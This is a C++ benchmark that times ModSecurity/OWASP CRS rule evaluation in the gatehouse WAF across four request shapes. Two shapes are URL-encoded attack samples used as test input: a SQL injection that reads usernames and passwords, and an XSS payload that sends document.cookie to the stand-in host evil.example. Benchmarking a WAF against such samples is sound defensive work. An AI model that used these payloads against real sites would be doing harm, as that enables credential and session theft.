// CPU time of one WAF evaluation (ModSecurity v3 + OWASP CRS, paranoia level 1) on the calling
// thread, per request shape: what the WAF pool spends per request, without any I/O. The same
// library evaluates the same rules inside nginx (bench/waf_run.sh compares the two end to end).
//
//   build/bench/waf_bench [seconds per shape, default 1]
#include <time.h>

#include <cstdio>
#include <cstdlib>
#include <string>
#include <vector>

#include "waf/waf_engine.hpp"

using namespace gatehouse;
using namespace gatehouse::detail;

namespace {

double cpu_seconds() {
  timespec ts{};
  clock_gettime(CLOCK_THREAD_CPUTIME_ID, &ts);
  return static_cast<double>(ts.tv_sec) + static_cast<double>(ts.tv_nsec) * 1e-9;
}

struct Shape {
  const char* name;
  const char* method;
  std::string target, content_type, body;
};

WafRequest request_for(const Shape& s) {
  WafRequest r;
  r.client_ip = "192.0.2.10";
  r.client_port = 40000;
  r.method = s.method;
  r.target = s.target;
  r.add_header("host", "api.example.com");
  r.add_header("user-agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0");
  r.add_header("accept", "application/json");
  r.add_header("accept-language", "en-US,en;q=0.5");
  r.add_header("accept-encoding", "gzip, deflate");
  if (!s.content_type.empty()) {
    r.add_header("content-type", s.content_type);
    r.add_header("content-length", std::to_string(s.body.size()));
  }
  r.body = s.body;
  return r;
}

}  // namespace

int main(int argc, char** argv) {
  const double seconds = argc > 1 ? std::atof(argv[1]) : 1.0;
  WafOptions options;
  const double load_start = cpu_seconds();
  auto engine = WafEngine::load(options);
  std::printf("CRS load: %.0f ms CPU\n", (cpu_seconds() - load_start) * 1e3);
  const std::vector<Shape> shapes = {
      {"clean-get", "GET", "/api/users/42?include=orders&sort=-created_at", "", ""},
      {"clean-json", "POST", "/api/orders", "application/json",
       R"({"customer":{"name":"Seo-yeon O'Brien","email":"seoyeon@example.com"},"note":"Please leave it at the door, it's fine. \"Thanks!\"","message":"안녕하세요, 배송 부탁드립니다.","items":[{"sku":"A-1001","qty":2,"price":12.5},{"sku":"B-2002","qty":1,"price":99.99}],"coupon":null})"},
      {"attack-sqli", "GET", "/search?q=1%27%20UNION%20SELECT%20username%2C%20password%20FROM%20users--", "", ""},
      {"attack-xss", "POST", "/comments", "application/x-www-form-urlencoded",
       "name=bob&comment=%3Cscript%3Edocument.location%3D%27http%3A%2F%2Fevil.example%2F%3Fc%3D%27%2Bdocument.cookie%3C%2Fscript%3E"},
  };
  std::printf("%-12s %12s %10s\n", "shape", "CPU us/eval", "verdict");
  for (const Shape& s : shapes) {
    const WafRequest r = request_for(s);
    WafExclusions none;
    const WafTransactionPolicy policy{false, &none, nullptr};
    long n = 0;
    bool blocked = false;
    const double start = cpu_seconds();
    double now = start;
    while (now - start < seconds) {
      WafTransaction tx(engine, policy);
      blocked = tx.inspect_request(r).intervene;
      ++n;
      if ((n & 7) == 0) now = cpu_seconds();
    }
    now = cpu_seconds();
    std::printf("%-12s %12.1f %10s\n", s.name, (now - start) * 1e6 / static_cast<double>(n), blocked ? "403" : "pass");
  }
}
